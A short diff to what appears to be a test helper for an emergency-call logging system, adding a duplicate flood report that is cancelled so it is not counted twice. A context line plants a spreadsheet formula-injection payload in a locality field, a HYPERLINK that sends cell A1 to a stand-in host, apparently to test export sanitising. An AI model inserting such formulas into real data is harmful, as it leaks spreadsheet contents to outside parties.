@@ -57,6 +57,10 @@ async function postWithIncidents() {
   const district = await t.call('calls.log', intake({
     type: 'flood', receivedAt: T0 + 2 * MINUTE, location: { district: 'al-haffah', locality: '=HYPERLINK("http://x.example/?"&A1,"click")' },
   }));
+  // A second report of the first scene, cancelled as its duplicate: not counted twice.
+  t.clock.advance(MINUTE);
+  const twin = await t.call('calls.log', intake({ receivedAt: T0 + 3 * MINUTE, reported: { trapped: 4, injured: 2, dead: 1 } }));
+  await t.call('incidents.setStatus', { id: twin.incidentId, status: 'cancelled', cancelReason: 'duplicate' });
   return { t, files, ids: [known.incidentId, village.incidentId, district.incidentId] };
 }
 
